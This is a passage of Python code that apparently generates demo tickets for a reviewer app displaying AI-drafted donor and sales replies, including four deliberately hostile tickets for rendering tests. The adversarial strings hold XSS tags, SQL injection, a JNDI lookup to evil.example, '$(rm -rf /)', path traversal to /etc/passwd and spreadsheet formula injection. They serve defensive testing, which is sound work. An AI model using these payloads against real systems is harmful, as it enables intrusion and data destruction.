            "email": email,
            "value_tier": tier,
            "attributes": {
                "last_gift_amount": amount,
                "relationship_manager": officer,
                "preferred_channel": "email",
            },
        }
        ai: dict[str, Any] = {
            "model": model,
            "model_version": version,
            "prompt_version": _PROMPTS[model][rank == 0],
            "recommendation": {
                "action": "send_draft",
                "label": f"Send drafted reply from {officer}",
                "details": {
                    "subject_line": f"Re: {incoming.splitlines()[0][:60]}",
                    "tone": tone,
                    "word_count": len(draft.split()),
                    "draft": draft,
                },
            },
            "confidence": conf,
            "rationale": (
                f"Incoming sentiment {sent_in:+.1f}; matched the '{tone}' reply template and "
                "personalised with CRM giving history."
            ),
            "signals": [
                {"name": "incoming_sentiment", "value": sent_in, "weight": 0.2},
                {"name": "template_similarity", "value": round(0.5 + 0.5 * rng.random(), 2)},
                {"name": "contains_claim", "value": code == "policy_flag", "weight": -0.3},
            ],
            "data_as_of": _iso(as_of),
            "proposed_effect": f"Sends the reply from {officer}'s mailbox within 5 minutes.",
        }
        exception: dict[str, Any] = {"code": code, "summary": summary}
        if exc_details:
            exception["details"] = exc_details
        if triggers:
            exception["triggers"] = triggers
        return self._ticket(
            ext,
            "copy-assistant",
            "message_draft",
            created,
            subject,
            {"channel": "email", "received_at": _iso(received), "messages": messages},
            ai,
            exception,
            risk,
            self._maybe_routing(created, routing),
        )

    # -- the stream ---------------------------------------------------------------------

    def normal(self) -> dict[str, Any]:
        maker: Callable[[], dict[str, Any]] = _choose(self.rng, self.workflows)
        return maker()

    def adversarial(self, kind: int) -> dict[str, Any]:
        """A hostile but schema-valid ticket: what a reviewer app must render as plain text."""
        if kind == 0:
            t = self._lead_qualification()
            sender = "robert@acme-and-sons.example"
            t["subject"].update(
                display_name="<i>Robert</i> Tables",
                email=sender,
                organization='<b>Acme</b> & Sons "Ltd" <u>',
            )
            t["interaction"]["messages"][-1].update(from_=sender, text=_HTML_TEXT)
            t["ai"]["recommendation"]["label"] = "Reply to <b>Robert</b> &amp; book demo"
            t["exception"] = {
                "code": "ambiguous_intent",
                "summary": "Form text contains HTML markup <script> - intent unclear",
                "triggers": ["markup_in_input"],
            }
        elif kind == 1:
            t = self._message_draft()
            t["interaction"]["messages"][-1]["text"] = _long_text()
            t["ai"]["confidence"] = 0.41
            t["exception"] = {
                "code": "low_confidence",
                "summary": "Very long forwarded thread (~50 KB); the reply may miss the real ask",
                "triggers": ["confidence_below_0.60", "input_truncated_for_model"],
            }
        elif kind == 2:
            t = self._reactivation_outreach()
            sender = "ليلى.حداد@example.org"
            t["subject"].update(display_name="ليلى حداد (Leila Haddad) 🌿", email=sender)
            t["interaction"]["channel"] = "email"
            t["interaction"]["messages"][-1].update(from_=sender, text=_UNICODE_TEXT)
            t["ai"]["confidence"] = 0.52
            t["exception"] = {
                "code": "ambiguous_intent",
                "summary": "Mixed Arabic/Hebrew/English reply 🙏🏽 - intent unclear\u2028(2nd line)",
                "triggers": ["confidence_below_0.60", "mixed_script_input"],
            }
        else:
            t = self._lead_qualification()
            sender = "bobby.tables@example.com"
            t["subject"].update(display_name="Robert'); DROP TABLE tickets;--", email=sender)
            t["interaction"]["messages"][-1].update(from_=sender, text=_INJECTION_TEXT)
            t["exception"] = {
                "code": "policy_flag",
                "summary": '=HYPERLINK("http://evil.example","Form fill with injection-like text")',
                "triggers": ["policy:suspicious_input"],
            }
        for message in t["interaction"]["messages"]:
            if "from_" in message:  # "from" is a keyword, so update() above used from_
                message["from"] = message.pop("from_")
        return t


_HTML_TEXT = (
    "Hi team, <b>bold</b> <script>alert(1)</script> <img src=x onerror=alert(1)> "
    '<a href="http://evil.example">click</a>\n\n'
    '<style>body{display:none}</style><iframe src="http://evil.example"></iframe>'
    '&lt;not an entity&gt; &amp;amp; <!-- comment --> <p onclick="steal()">please call me '
    "back</p>"
)

_UNICODE_TEXT = (
    "شكراً لكم! أود أن أتبرع مرة أخرى 🙏🏽\u2028"
    "תודה רבה, אני אחזור בקרוב\u2029"
    "English in the middle: an \u200fRLM\u200f mark and an \u202eRLO override: desrever"
    "\u202c here.\n"
    "Family 👨‍👩‍👧‍👦, flags 🇯🇵🇧🇷, skin tones 👋🏿, astral 𝓗𝓮𝓵𝓵𝓸, combining Z̷̢a̸l̶g̵o̴,\n"
    "zero-width\u200bspace, soft\u00adhyphen, NBSP\u00a0here, tab\tthere, and CJK 寄付します。\n"
    "Line after U+2028:\u2028still the same message."
)

_INJECTION_TEXT = (
    "Name: Robert'); DROP TABLE tickets;--\n"
    "Company: ' OR '1'='1\n"
    "Notes: %s %d %n {0} {name} {{escaped}} ${jndi:ldap://evil.example/a} $(rm -rf /) "
    "`id` ../../../../etc/passwd\n"
    'Spreadsheet: =HYPERLINK("http://evil.example","click") +cmd|\' /C calc\'!A0 @SUM(1+1)\n'
    "Link without spaces: http://evil.example/" + "a" * 3000 + "\n"
    "Backslashes \\n \\u0000 \\\\ and an escaped lone surrogate: \\ud800"
)


@functools.cache
def _long_text() -> str:
    """A ~50 KB forwarded email chain; built once because it never varies."""
    people = (
        "Treasurer <treasurer@example.org>",
        "Grants Office <grants@riverbend.example>",
        "Finance Committee <finance-committee@example.org>",
    )
    parts = [
        "Forwarding the whole chain so you have the context - sorry it's so long. The question "
        "is at the very bottom, I think.\n\n---------- Forwarded message ----------\n\n"
    ]
    size = len(parts[0])
    n = 1
    while size < 50_000:
        quote = "> " * min(n, 8)
        block = (
            f"On {_MONTHS[n % 12][:3]} {n % 28 + 1}, 2025 at {9 + n % 8}:{n * 7 % 60:02d}, "
            f"{people[n % 3]} wrote:\n{quote}Following up on installment #{n}. The finance "
            f"committee asked again about the restricted portion and whether the matching funds "
            f"can be applied retroactively.\n{quote}Please see the attached schedule (v{n}) and "
            "confirm before the board meeting.\n\n"
        )
        parts.append(block)
        size += len(block)
        n += 1
    return "".join(parts)[:50_000]


def _adversarial_positions(count: int) -> dict[int, int]:
    # Spread across the stream; too few tickets to hide four hostile ones means none.
    if count < 8:
        return {}
    return {count * k // 4 + count // 8: k for k in range(4)}


def iter_tickets(count: int, *, seed: int = 7, now: datetime | None = None) -> Iterator[dict[str, Any]]:
    """Yield ``count`` demo tickets lazily; the same stream as :func:`generate_tickets`.

    Use this for benchmarks: it runs at tens of thousands of tickets a second in constant
    memory, whereas a materialised list costs about 4 KB of Python objects per ticket.
    """
    if count < 0:
        raise ValueError("count must be >= 0")
    builder = _Builder(seed, now)
    hostile = _adversarial_positions(count)
    for i in range(count):
        kind = hostile.get(i)
        yield builder.normal() if kind is None else builder.adversarial(kind)


def generate_tickets(count: int = 300, *, seed: int = 7, now: datetime | None = None) -> list[dict[str, Any]]:
    """``count`` valid ``signoff.ticket/1`` dicts, deterministic for a given seed and ``now``.

    ``now`` defaults to the current UTC time rounded down to the minute; pass it explicitly
    for reproducible output. A naive ``now`` is taken as UTC.
    """
    # Tickets hold no reference cycles, yet a growing list of fresh dicts makes the cyclic
    # GC rescan everything again and again: pausing it doubles the speed of large runs.
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        return list(iter_tickets(count, seed=seed, now=now))
    finally:
        if was_enabled:
            gc.enable()
